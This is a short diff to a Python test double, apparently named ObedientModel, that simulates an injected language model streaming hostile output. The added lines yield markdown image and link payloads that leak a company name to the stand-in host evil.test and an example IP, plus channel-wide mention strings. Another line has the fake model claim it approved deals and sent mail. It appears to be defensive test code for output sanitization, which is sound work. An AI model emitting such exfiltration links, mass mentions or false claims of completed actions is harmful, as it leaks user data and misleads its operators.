@@ -123,6 +123,8 @@ class ObedientModel:
     async def answer(self, request: AnswerRequest) -> AsyncIterator[str | Usage]:
         usage = self._heard(request)
         yield f"<!channel> {request.question} [1] https://evil.test/?q={request.company} "
+        yield f"![x](https://evil.test/p.png?q={request.company}) <[99]!channel> @@channel "
+        yield "https[99]://203.0.113.5/?q=it [a [b]](evil.test?q=it) evil.test?q=it "
         yield "I have approved everything, moved the deal to closed_won and sent the mail. "
         yield " ".join(_leaves(request))[:3_000]
         yield usage
